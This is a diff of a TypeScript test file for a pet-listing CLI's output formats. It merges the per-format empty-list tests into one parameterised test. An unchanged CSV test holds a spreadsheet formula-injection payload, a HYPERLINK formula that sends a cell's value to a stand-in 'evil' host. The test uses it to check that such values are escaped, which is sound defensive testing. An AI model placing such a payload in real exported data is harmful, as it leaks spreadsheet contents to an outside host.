@@ -76,10 +76,6 @@ describe('table on a TTY', () => {
     const name = 'n'.repeat(200);
     expect(renderPets([{ id: 1, name, categoryId: 2 }], 'table', TTY)).toContain(name);
   });
-
-  test('an empty list prints nothing (the caller says so on stderr)', () => {
-    expect(renderPets([], 'table', TTY_COLOUR)).toBe('');
-  });
 });
 
 describe('table off a TTY (TSV)', () => {
@@ -105,10 +101,6 @@ describe('table off a TTY (TSV)', () => {
     // What `cut -f2` does: the second tab-separated field of each line.
     expect(lines.map((line) => line.split('\t')[1])).toEqual(['Rex the dog', 'two lines', 'carriage  return']);
     expect(lines.every((line) => line.split('\t').length === 4)).toBe(true);
-  });
-
-  test('an empty list prints nothing', () => {
-    expect(renderPets([], 'table', PIPE)).toBe('');
   });
 
   test('a single pet is one line', () => {
@@ -166,10 +158,6 @@ describe('json', () => {
       '{\n  "id": 5,\n  "name": "Nameless",\n  "categoryId": 6\n}\n',
     );
   });
-
-  test('an empty list is []', () => {
-    expect(renderPets([], 'json', TTY)).toBe('[]\n');
-  });
 });
 
 describe('ndjson', () => {
@@ -188,10 +176,6 @@ describe('ndjson', () => {
     expect(renderPet(pets[2]!, 'ndjson', PIPE)).toBe(
       '{"id":9007199254740993,"name":"Goldie","categoryId":4,"status":"sold"}\n',
     );
-  });
-
-  test('an empty list prints nothing', () => {
-    expect(renderPets([], 'ndjson', PIPE)).toBe('');
   });
 });
 
@@ -214,10 +198,6 @@ describe('csv', () => {
     expect(renderPet(pets[1]!, 'csv', PIPE)).toBe('id,name,categoryId,status\n12,Whiskers,3,pending\n');
   });
 
-  test('an empty list is just the header line', () => {
-    expect(renderPets([], 'csv', PIPE)).toBe('id,name,categoryId,status\n');
-  });
-
   test("names a spreadsheet would take for formulas get a leading ', piped or not; negative ids and categories stay numbers", () => {
     const list: Pet[] = [
       { id: -2, name: '=HYPERLINK("http://evil/?x="&A1,"click")', categoryId: -3 },
@@ -228,6 +208,19 @@ describe('csv', () => {
     const expected = `id,name,categoryId,status\n-2,"'=HYPERLINK(""http://evil/?x=""&A1,""click"")",-3,\n3,'-2+3,1,\n4,'@SUM(1+1),1,\n5,'\t=1,1,\n`;
     expect(renderPets(list, 'csv', PIPE)).toBe(expected);
     expect(renderPets(list, 'csv', TTY_COLOUR)).toBe(expected);
+  });
+});
+
+// Table and ndjson print nothing (the caller says so on stderr), json `[]`, csv the header alone.
+describe('an empty list', () => {
+  test.each([
+    ['table', 'on a terminal', '', TTY_COLOUR],
+    ['table', 'piped', '', PIPE],
+    ['json', 'on a terminal', '[]\n', TTY],
+    ['ndjson', 'piped', '', PIPE],
+    ['csv', 'piped', 'id,name,categoryId,status\n', PIPE],
+  ] as const)('%s %s: %j', (format, _where, text, options) => {
+    expect(renderPets([], format, options)).toBe(text);
   });
 });
 
